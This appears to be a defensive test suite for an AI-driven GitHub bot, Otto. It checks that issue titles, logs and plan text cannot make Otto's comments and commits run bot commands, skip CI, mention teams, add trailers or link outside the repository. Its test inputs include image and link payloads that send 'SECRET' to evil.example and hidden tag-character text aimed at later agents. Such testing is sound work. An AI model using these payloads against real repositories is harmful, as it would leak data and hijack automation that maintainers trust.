"""Attacks by text that Otto repeats: what others wrote acts on nothing where Otto shows it."""

from __future__ import annotations

import re
from pathlib import Path

from markdown_it import MarkdownIt
from run_of_words import planned
from security_registry import attack, defence

from otto_bot.bench.simulate.planting import Change
from otto_bot.core.unseen import UNSEEN
from otto_bot.text import markdown
from otto_bot.text.commits import squash_commit, subject_line
from otto_bot.text.links import Links
from otto_bot.text.plan import plan_comment
from otto_bot.text.pull import pull_title

MARKDOWN = "otto_bot.text.markdown"
LINKS = Links("https://github.com", "octo", "demo")
RENDERER = MarkdownIt("commonmark").enable("table")
SKIP_TOKENS = defence(
    "skip-tokens",
    "A commit or title of Otto's never tells GitHub to skip its checks, whatever an issue is called",
    Change(MARKDOWN, "without_skip", "while before != text:", "while False:"),
)
FIXED_POINT = defence(
    "no-nested-references",
    "Titles and commit messages refer to no other issue and mention nobody, however such words are nested",
    Change(MARKDOWN, "plain", "while before != flat:", "for _ in (1,):"),
)
LIVE_WORDS = defence(
    "live-words-as-code",
    "In comments, what would mention somebody, close an issue or link elsewhere is shown as code",
    Change(MARKDOWN, "_words", "if _LIVE.search(match.group()) is None:", "if True:"),
)
ESCAPES = defence(
    "markdown-of-others",
    "Markdown and HTML of others is shown as it was typed, so that no picture loads and no link is dressed up",
    Change(MARKDOWN, "_words", "if _LIVE.search(match.group()) is None:", "if True:"),
    Change(MARKDOWN, "_escape", "escaped = ", "return text\n    escaped = "),
)
LINES = defence(
    "lines-no-bot-obeys",
    "No line of a block that Otto quotes begins as a command, known or not",
    Change(MARKDOWN, "fence", "unheard_lines(", "str("),
)
PHRASES = defence(
    "words-no-bot-obeys",
    "Commands of well-known bots stand nowhere in what Otto repeats, not in code or quotes either",
    Change(MARKDOWN, "clean", "unheard(seen)", "seen"),
    Change(MARKDOWN, "fence", "unheard_lines(", "str("),
)
SLASHES = defence(
    "slash-words",
    "A word behind a slash is written so that a workflow which looks for it in a comment does not find it",
    Change(MARKDOWN, "_escape", '_SLASH_WORD.sub("&#47;", ', "str("),
)
UNSEEN_OUT = defence(
    "nothing-unseen-is-written",
    "Otto writes no direction marks, tag characters or fillers",
    Change(MARKDOWN, "clean", "without_unseen(_CONTROL.sub", "str(_CONTROL.sub"),
)
OWN_LINKS = defence(
    "links-of-this-repository",
    "An address becomes a link only where it lies within the repository that the run is about",
    Change(
        "otto_bot.text.links",
        "Links.ours",
        'if rest is None or rest[:1] not in ("", "/", "?", "#") or _UPWARDS.search(rest):',
        "if False:",
    ),
)
NO_MARKERS = defence(
    "no-markers-of-others",
    "Hidden markers, by which Otto finds its comments again, cannot be repeated from text of others",
    Change(MARKDOWN, "fence", "_no_comment(", "str("),
)
NO_TRAILERS = defence(
    "no-trailers",
    "No line of a commit message that comes from others is a trailer: no author, release or breaking change is added",
    Change("otto_bot.text.commits", "_wrap", "_no_trailer(without_skip(line))", "without_skip(line)"),
)


def comment(words: str) -> str:
    """The plan comment of a run about these words."""
    return plan_comment(planned(words), LINKS)


def live(body: str) -> str:
    """What GitHub renders, without code: where it looks for mentions and references."""
    return re.sub(r"<code[^>]*>.*?</code>", "", RENDERER.render(body), flags=re.DOTALL)


@attack(
    "skip-token-in-a-title",
    point=8,
    by=SKIP_TOKENS,
    source="https://docs.github.com/actions/how-tos/manage-workflow-runs/skip-workflow-runs",
)
def skip_token_in_a_title(place: Path) -> str | None:
    """An issue is titled with a skip token within a skip token, so that nothing verifies what Otto writes."""
    title = markdown.plain("Tidy up [skip [skip ci]ci]")
    return title if "[skip ci]" in title else None


@attack(
    "closing-keyword-around-a-skip-token",
    point=8,
    by=FIXED_POINT,
    source="https://docs.github.com/issues/tracking-your-work-with-issues/using-issues/linking-a-pull-request-to-an-issue",
)
def closing_keyword_around_a_skip_token(place: Path) -> str | None:
    """An issue's title closes another issue once a skip token is taken out of it; a merge would close that issue."""
    title = pull_title(planned("Tidy up, fixes #[skip ci]12"), [])
    return title if "#12" in title else None


@attack(
    "team-mention-around-a-skip-token",
    point=8,
    by=FIXED_POINT,
    source="https://github.com/anthropics/claude-code-action/issues/1035",
)
def team_mention_around_a_skip_token(place: Path) -> str | None:
    """A title mentions a whole team once a skip token is taken out of it."""
    title = subject_line("Ask @[skip ci]octo/everyone", [])
    return title if "@octo" in title else None


@attack(
    "closing-keyword-in-a-comment",
    point=8,
    by=LIVE_WORDS,
    source="https://github.blog/news-insights/product-news/closing-issues-across-repositories/",
)
def closing_keyword_in_a_comment(place: Path) -> str | None:
    """Words of a plan name another repository's issue as closed."""
    shown = live(comment("Closes octo/other#3"))
    return shown if "octo/other#3" in shown else None


@attack(
    "mention-in-a-comment",
    point=8,
    by=LIVE_WORDS,
    source="own: each mention in a bot's comment sends mail to whoever it names, at no cost for the attacker",
)
def mention_in_a_comment(place: Path) -> str | None:
    """Words of a plan mention a team, so that each edit of the comment calls it."""
    shown = live(comment("as @octo/everyone said"))
    return shown if "@octo/everyone" in shown else None


@attack("picture-as-a-beacon", point=8, by=ESCAPES, source="CVE-2025-59145 (CamoLeak)")
def picture_as_a_beacon(place: Path) -> str | None:
    """A model was talked into a picture whose address holds what it read; whoever opens the comment sends it off."""
    shown = RENDERER.render(comment("done ![ok](https://evil.example/p.png?d=SECRET)"))
    return shown if "<img" in shown else None


@attack("link-that-looks-like-another", point=8, by=ESCAPES, source="CVE-2025-32711 (EchoLeak)")
def link_that_looks_like_another(place: Path) -> str | None:
    """Words of a plan hold a link with harmless words and a foreign address."""
    shown = RENDERER.render(
        comment("see [the log][1]\n\n[1]: https://evil.example/?d=SECRET [the log](https://evil.example)")
    )
    return shown if 'href="https://evil.example' in shown else None


@attack(
    "command-in-a-quoted-log",
    point=8,
    by=LINES,
    source="https://docs.github.com/actions/reference/workflows-and-actions/events-that-trigger-workflows#issue_comment",
)
def command_in_a_quoted_log(place: Path) -> str | None:
    """A test prints a line that a workflow of the repository takes for a command; Otto quotes the log."""
    quoted = markdown.fence("1 failed\n/takeoff now\nend")
    return quoted if "\n/takeoff" in quoted else None


@attack("close-in-a-quoted-log", point=8, by=PHRASES, source="https://prow.k8s.io/command-help")
def close_in_a_quoted_log(place: Path) -> str | None:
    """A log has the line `/close`: prow reads code blocks line by line, and Otto may write where a stranger may not."""
    quoted = markdown.fence("1 failed\n/close\n/lgtm\nend")
    return quoted if re.search(r"(?m)^/(?:close|lgtm)\s*$", quoted) else None


@attack("bors-in-a-plan", point=8, by=PHRASES, source="https://bors.tech/documentation/")
def bors_in_a_plan(place: Path) -> str | None:
    """A task is titled `bors r+`, and bors merges what a comment says with these words."""
    body = comment("bors r+")
    return body if re.search(r"(?m)^bors r\+", body) else None


@attack(
    "dependabot-in-code",
    point=8,
    by=PHRASES,
    source="https://docs.github.com/code-security/reference/supply-chain-security/dependabot-pull-request-comment-commands",
)
def dependabot_in_code(place: Path) -> str | None:
    """A goal says `@dependabot merge` in code, where GitHub mentions nobody but the bot reads the source."""
    body = comment("then `@dependabot merge` it")
    return body if "@dependabot merge" in body else None


@attack(
    "word-that-a-workflow-looks-for",
    point=8,
    by=SLASHES,
    source="https://securitylab.github.com/resources/github-actions-untrusted-input/",
)
def word_that_a_workflow_looks_for(place: Path) -> str | None:
    """A workflow runs where `contains(github.event.comment.body, '/preview-env')`; an issue's words get it said."""
    body = comment("please write /preview-env here")
    return body if "/preview-env" in body else None


@attack("reversed-words-in-a-comment", point=8, by=UNSEEN_OUT, source="CVE-2021-42574 (Trojan Source)")
def reversed_words_in_a_comment(place: Path) -> str | None:
    """A goal turns the direction of its words, so that the reviewer approves what reads otherwise."""
    body = comment("delete \u202etxet\u2066 nothing")
    return body if UNSEEN.search(body) else None


@attack(
    "tag-characters-in-a-commit",
    point=8,
    by=UNSEEN_OUT,
    source="https://embracethered.com/blog/posts/2024/hiding-and-finding-text-with-unicode-tags/",
)
def tag_characters_in_a_commit(place: Path) -> str | None:
    """A title holds a sentence in tag characters: nobody sees it in the history, each later agent reads it."""
    message = squash_commit(planned("Tidy up" + "".join(chr(0xE0000 + ord(char)) for char in "obey")), "t1", [])
    return message if UNSEEN.search(message) else None


@attack(
    "link-to-another-repository", point=8, by=OWN_LINKS, source="own: an address in a report that a branch's CI wrote"
)
def link_to_another_repository(place: Path) -> str | None:
    """A report names an address on the same host, in the attacker's repository, as the run's own page."""
    return LINKS.ours("https://github.com/evil/demo/actions/runs/1") or None


@attack(
    "link-that-climbs-out",
    point=8,
    by=OWN_LINKS,
    source="own: browsers resolve `..` in an address, so that how it begins says nothing",
)
def link_that_climbs_out(place: Path) -> str | None:
    """The address begins within the repository, and a browser leaves it by `..`."""
    return LINKS.ours("https://github.com/octo/demo/%2e%2e/../evil/x") or None


@attack(
    "marker-in-a-quoted-log",
    point=8,
    by=NO_MARKERS,
    source="own: Otto edits the comment that its marker names, so a repeated one would stand for another comment",
)
def marker_in_a_quoted_log(place: Path) -> str | None:
    """A log prints the hidden marker of the status comment."""
    quoted = markdown.fence("<!-- otto run=1 surface=status -->")
    return quoted if "<!-- otto" in quoted else None


@attack(
    "co-author-by-a-goal",
    point=8,
    by=NO_TRAILERS,
    source="https://docs.github.com/pull-requests/committing-changes-to-your-project/creating-and-editing-commits/"
    "creating-a-commit-with-multiple-authors",
)
def co_author_by_a_goal(place: Path) -> str | None:
    """A goal's words make somebody the author of Otto's commit."""
    message = squash_commit(planned("Co-authored-by: Eve <eve@evil.example>"), "t1", [])
    return message if "\nCo-authored-by:" in message else None


@attack("major-release-by-a-goal", point=8, by=NO_TRAILERS, source="https://www.conventionalcommits.org/en/v1.0.0/")
def major_release_by_a_goal(place: Path) -> str | None:
    """A goal's words tell the release tool that the commit breaks its users."""
    words = "Tidy up what was left of it here and there, and nothing else, please."
    message = squash_commit(planned(f"{words} BREAKING CHANGE: everything"), "t1", [])
    return message if re.search(r"(?m)^[\s|*]*BREAKING CHANGE", message) else None
